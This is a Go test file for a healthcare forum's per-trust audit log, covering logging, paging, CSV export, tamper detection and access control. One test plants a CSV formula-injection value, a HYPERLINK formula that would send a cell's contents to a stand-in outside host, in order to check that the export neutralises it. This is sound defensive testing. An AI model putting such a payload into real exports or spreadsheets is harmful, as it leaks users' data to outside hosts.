package main

import (
	"context"
	"encoding/csv"
	"errors"
	"io/fs"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/google/uuid"

	"github.com/sharon-nhs/sharon/internal/testkit"
	"github.com/sharon-nhs/sharon/tenants"
)

// comesRound does a part's periodic work for northmoor once.
func (s *site) comesRound(key string) {
	s.t.Helper()
	var here tenants.Scope
	err := s.app.Directory.ReadAs(s.t.Context(), s.northmoor(), "", func(_ context.Context, sc tenants.Scope) error {
		here = sc
		return nil
	})
	for _, round := range s.app.work(nil, nil).Rounds {
		if round.Key == key && err == nil {
			err = round.Do(s.t.Context(), here)
		}
	}
	if err != nil {
		s.t.Fatal(err)
	}
}

// logged is the trust's audit log since the test began, as its administrator
// reads it, narrowed by a query.
func (s *site) logged(query string) (entries []logEntry) {
	s.t.Helper()
	if !strings.Contains(query, "from=") {
		query = "?from=2026-11-20&" + strings.TrimPrefix(query, "?")
	}
	var page struct{ Entries []logEntry }
	if got := s.over("admin@northmoor").getJSON("/trust/audit"+query, &page); got.status != http.StatusOK {
		s.t.Fatalf("%d %s", got.status, got.body)
	}
	return page.Entries
}

type logEntry struct {
	Action, Words, Who, About, Service, Reason, Before, After string
	Number                                                    int
	Changes                                                   []struct{ Name, Was, Now string }
}

func one(t *testing.T, entries []logEntry) logEntry {
	t.Helper()
	if len(entries) != 1 {
		t.Fatalf("%d entries, not one: %+v", len(entries), entries)
	}
	return entries[0]
}

func TestWhatHappensInATrustIsInItsLog(t *testing.T) {
	onBoth(t, func(t *testing.T, s *site) {
		hazel, moderator, lead := s.over("hazel.willow@northmoor"), s.over("moderator.willow@northmoor"), s.over("lead.willow@northmoor")
		id := threadBy(hazel, "sleep-and-feeding", "canary")
		s.sent(lead, "/willow/settings/rooms/walls", map[string]any{"on": false, "version": 1})
		s.sent(moderator, "/willow/posts/"+id+"/remove", nil)
		if got := moderator.getJSON("/willow/posts/"+id+"/history", nil); got.status != http.StatusOK {
			t.Fatalf("history: %d", got.status)
		}
		for range 40 {
			hazel.getJSON("/willow/settings/rooms", nil)
			hazel.getJSON("/harbour/me", nil)
			s.visit("northmoor").sendJSON("/sign-in", map[string]string{"email": "fern.willow@northmoor.example", "password": "wrong"})
		}
		s.clock.Advance(6 * time.Minute)
		s.comesRound("audit")

		changed := one(t, s.logged("?action=rooms.change"))
		if changed.Who != "Amira" || changed.Service == "" || len(changed.Changes) != 1 || changed.Changes[0].Name != "on" || changed.Changes[0].Was != "yes" || changed.Changes[0].Now != "no" {
			t.Errorf("a room switched off: %+v", changed)
		}
		for action, who := range map[string]string{"posts.remove": "moderator", "posts.history": "moderator"} {
			if e := one(t, s.logged("?action="+action)); e.Words == action || !strings.EqualFold(e.Who, s.handleOf(who+".willow@northmoor")) {
				t.Errorf("%s: %+v", action, e)
			}
		}
		denied := one(t, s.logged("?action=access.denied&who=hazel"))
		if !strings.Contains(denied.After, `"times":40`) || !strings.Contains(denied.After, "The rooms of this service") || denied.Number == 0 {
			t.Errorf("forty refusals: %+v", denied)
		}
		if e := one(t, s.logged("?action=access.service")); e.Who != "Hazel" || !strings.Contains(e.After, `"times":40`) || e.Service == "" {
			t.Errorf("at the door of another service: %+v", e)
		}
		if e := one(t, s.logged("?action=session.refused")); e.About != "Fern" || strings.Contains(e.After, `"times":40`) {
			t.Errorf("wrong passwords, most of them not even tried: %+v", e)
		}
		if in := s.logged("?action=session.begin&who=hazel"); len(in) != 1 {
			t.Errorf("hazel signed in %d times", len(in))
		}
		for _, e := range s.logged("") {
			if strings.Contains(e.Before+e.After+e.Reason, "canary") {
				t.Errorf("what a member wrote is in the log: %+v", e)
			}
		}
		if err := s.app.verify(t.Context(), s.trustAt("northmoor"), nil); err != nil {
			t.Error(err)
		}
	})
}

// trustAt is a trust by its slug.
func (s *site) trustAt(slug string) tenants.Trust {
	s.t.Helper()
	trust, err := s.app.Directory.TrustAt(s.t.Context(), slug+".localhost")
	if err != nil {
		s.t.Fatal(err)
	}
	return trust
}

func TestTheLogIsNarrowedAndPaged(t *testing.T) {
	onBoth(t, func(t *testing.T, s *site) {
		admin := s.over("admin@northmoor")
		for i := range 120 {
			s.note("northmoor", "threads.steer", now.Add(time.Duration(i)*time.Hour), "")
		}
		seen, path := 0, "/trust/audit?action=threads.steer"
		for pages := 0; ; pages++ {
			var page struct {
				Entries []struct{ At time.Time }
				Older   string
			}
			admin.getJSON(path, &page)
			seen += len(page.Entries)
			if page.Older == "" {
				break
			}
			path = "/trust/audit?action=threads.steer&before=" + page.Older
			if pages > 5 {
				t.Fatal("there is no end")
			}
		}
		if seen != 120 {
			t.Errorf("%d of 120 on the pages", seen)
		}
		if some := s.logged("?action=threads.steer&from=2026-11-21&to=2026-11-21"); len(some) != 24 {
			t.Errorf("%d on one day, not 24", len(some))
		}
		if some := s.logged("?who=nobody-of-this-name"); len(some) != 0 {
			t.Errorf("%d of nobody", len(some))
		}
		for query, status := range map[string]int{
			"?from=yesterday": 422, "?from=2026-11-21&to=2026-11-20": 422, "?service=orchard": 422, "?before=" + uuid.NewString(): 404, "?before=x": 422,
		} {
			if got := admin.getJSON("/trust/audit"+query, nil); got.status != status {
				t.Errorf("%s: %d %s", query, got.status, got.body)
			}
		}
	})
}

// note adds a record to a trust's log.
func (s *site) note(trust, action string, at time.Time, reason string) {
	s.t.Helper()
	err := s.app.Directory.WriteAs(s.t.Context(), s.trustAt(trust).ID, "", func(ctx context.Context, sc tenants.Scope) error {
		sc.Now = at
		return sc.Audit(ctx, action, tenants.Audited{Reason: reason})
	})
	if err != nil {
		s.t.Fatal(err)
	}
}

func TestTheLogAsCSVRunsNoFormula(t *testing.T) {
	onBoth(t, func(t *testing.T, s *site) {
		s.note("northmoor", "threads.steer", now, `=HYPERLINK("http://elsewhere.example?"&A1,"look")`)
		s.note("northmoor", "threads.steer", now, "@SUM(1)\nwith, a comma and a \"quote\"")
		s.note("eastvale", "threads.steer", now, "of the other trust")
		s.comesRound("audit")
		got := s.as("admin@northmoor").get("/trust/audit/export?action=threads.steer")
		rows, err := csv.NewReader(strings.NewReader(string(got.body))).ReadAll()
		if err != nil || got.status != http.StatusOK || len(rows) != 3 {
			t.Fatalf("%d %v %s", got.status, err, got.body)
		}
		if kind, place := got.header.Get("Content-Type"), got.header.Get("Content-Disposition"); !strings.HasPrefix(kind, "text/csv") || !strings.HasPrefix(place, "attachment") {
			t.Errorf("it comes as %s, %s", kind, place)
		}
		for _, row := range rows[1:] {
			for _, cell := range row {
				if cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r") {
					t.Errorf("a formula: %q", cell)
				}
			}
			if row[0] == "" || len(row[1]) != 64 {
				t.Errorf("no place in the chain: %v", row)
			}
		}
		if e := one(t, s.logged("?action=audit.export")); e.Who != "Trust administrator" {
			t.Errorf("who took a copy: %+v", e)
		}
		for _, account := range []string{"hazel.willow@northmoor", "lead.willow@northmoor"} {
			for _, path := range []string{"/trust/audit", "/trust/audit/export"} {
				if got := s.over(account).getJSON(path, nil); got.status != http.StatusForbidden {
					t.Errorf("%s at %s: %d", account, path, got.status)
				}
			}
		}
	})
}

func TestEveryLineOfALongLogIsInItsCSV(t *testing.T) {
	t.Parallel()
	s := newSite(t, testkit.SQLite(t, prepare))
	err := s.app.Directory.WriteAs(t.Context(), s.northmoor(), "", func(ctx context.Context, sc tenants.Scope) error {
		rows := make([]tenants.Record, 2500)
		for i := range rows {
			rows[i] = tenants.Record{ID: uuid.New(), At: now.Add(time.Duration(i/3) * time.Second), Action: "threads.steer"}
		}
		_, err := tenants.InsertAll(sc, rows).Exec(ctx)
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	got := s.as("admin@northmoor").get("/trust/audit/export?action=threads.steer")
	if lines := strings.Count(string(got.body), "\n"); lines != 2501 {
		t.Errorf("%d lines", lines)
	}
}

func TestTheCommandSaysThatALogWasTamperedWith(t *testing.T) {
	t.Parallel()
	s := newSite(t, testkit.SQLite(t, prepare))
	s.note("northmoor", "threads.steer", now, "as it was")
	s.comesRound("audit")
	trust := s.trustAt("northmoor")
	if err := s.app.verify(t.Context(), trust, nil); err != nil {
		t.Fatal(err)
	}
	s.sql("DROP TRIGGER audit_log_stays")
	s.sql("UPDATE audit_log SET reason = 'otherwise' WHERE tenant_id = ? AND action = 'threads.steer'", s.northmoor())
	if err := s.app.verify(t.Context(), trust, nil); err == nil {
		t.Error("nothing is said of a changed record")
	}
	if err := s.app.verify(t.Context(), s.trustAt("eastvale"), nil); err != nil {
		t.Errorf("the other trust: %v", err)
	}
}

// Every action that the code audits has words for the page.
func TestEveryActionHasWords(t *testing.T) {
	t.Parallel()
	s := newSite(t, testkit.SQLite(t, prepare))
	words, found := s.app.acts(), 0
	action := regexp.MustCompile(`\.(?:Audit|tally)\(ctx, "([a-z_.]+)",`)
	err := filepath.WalkDir("../..", func(path string, _ fs.DirEntry, err error) error {
		if err != nil || !strings.HasSuffix(path, ".go") || strings.HasSuffix(path, "_test.go") {
			return err
		}
		source, err := os.ReadFile(path)
		for _, match := range action.FindAllSubmatch(source, -1) {
			found++
			if words[string(match[1])] == "" {
				err = errors.Join(err, errors.New(path+": "+string(match[1])+" has no words: see Acts"))
			}
		}
		return err
	})
	if err != nil || found < 10 {
		t.Errorf("%d actions: %v", found, err)
	}
}

func TestARefusedSignInOfNobodyLeavesNoAddressBook(t *testing.T) {
	t.Parallel()
	s := newSite(t, testkit.SQLite(t, prepare))
	for _, name := range []string{"a", "b", "c"} {
		s.visit("northmoor").post("/sign-in", url.Values{"email": {name + "@nowhere.example"}, "password": {"wrong"}})
	}
	s.clock.Advance(6 * time.Minute)
	s.comesRound("audit")
	e := one(t, s.logged("?action=session.refused"))
	if !strings.Contains(e.After, `"times":3`) || strings.Contains(e.After, "nowhere") || e.About != "" {
		t.Errorf("%+v", e)
	}
}
